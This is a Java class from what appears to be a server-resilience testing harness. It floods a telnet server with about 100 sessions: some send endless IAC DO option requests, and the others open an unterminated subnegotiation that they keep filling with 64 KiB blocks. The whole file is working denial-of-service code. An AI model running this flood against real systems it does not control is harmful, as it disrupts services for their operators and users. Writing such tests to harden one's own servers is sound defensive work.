package parley.attack.text;

import java.io.IOException;
import java.util.Arrays;
import java.util.List;
import parley.attack.horde.Horde;
import parley.attack.horde.Member;
import parley.attack.trial.Attack;
import parley.attack.trial.Scene;

/** Asks for telnet's options without end, or begins a subnegotiation that has none. */
public final class TelnetFlood implements Attack {
    private static final int SESSIONS = 100;
    private static final int BYTES = 64 * 1024;
    private static final byte IAC = (byte) 255;
    private static final byte DO = (byte) 253;
    private static final byte SB = (byte) 250;

    @Override
    public void make(Scene scene) throws IOException {
        long end = System.nanoTime() + scene.time().toNanos();
        long blocks = 0;
        try (Horde attackers = scene.attackers()) {
            List<Member> in = attackers.enter("eve", scene.size().of(SESSIONS));
            byte[] options = options();
            byte[] subnegotiation = new byte[BYTES];
            Arrays.fill(subnegotiation, (byte) 'x');
            for (int i = 1; i < in.size(); i += 2) {
                in.get(i).send(new byte[] {IAC, SB, 24});
            }
            while (System.nanoTime() < end) {
                for (int i = 0; i < in.size(); i++) {
                    Member member = in.get(i);
                    if (!member.isOver() && member.isSent()) {
                        member.send(i % 2 == 0 ? options : subnegotiation);
                        blocks++;
                    }
                }
                attackers.turn();
            }
            scene.notes().add(in.size(), "sessions");
            scene.notes().add(blocks * BYTES / 1024 / 1024, "MiB");
        }
    }

    private static byte[] options() {
        byte[] bytes = new byte[BYTES / 3 * 3];
        for (int i = 0; i < bytes.length; i += 3) {
            bytes[i] = IAC;
            bytes[i + 1] = DO;
            bytes[i + 2] = (byte) (i / 3 % 240);
        }
        return bytes;
    }
}
